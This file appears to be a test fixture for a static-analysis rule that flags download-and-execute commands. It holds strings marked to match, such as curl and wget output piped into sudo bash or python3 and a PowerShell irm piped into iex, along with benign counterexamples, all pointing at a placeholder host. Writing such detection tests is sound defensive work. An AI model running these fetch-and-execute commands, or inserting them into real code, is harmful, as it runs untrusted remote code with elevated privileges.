# canary-test: path=mypkg/cmds.py artifact=wheel
# Every member of python.download_pipe_shell (command lines live in strings).
# ruleid: download_pipe_shell
A = "curl -fsSL https://example.invalid/i.sh | sudo bash"
# ruleid: download_pipe_shell
B = "wget -qO- https://example.invalid/get.py | python3"
# ruleid: download_pipe_shell
C = "irm https://example.invalid/a.ps1 | iex"
# ruleid: download_pipe_shell
D = "wget -O /tmp/x https://example.invalid/x && chmod 755 /tmp/x"
# ok: download_pipe_shell
E = "curl -sL https://example.invalid/src.tar.gz | tar xz"
# ok: download_pipe_shell
F = "curl -o out.sh https://example.invalid/i.sh"
# ok: download_pipe_shell
G = "wget https://example.invalid/x; echo done"
# ok: download_pipe_shell
H = "cat install.sh | sh"
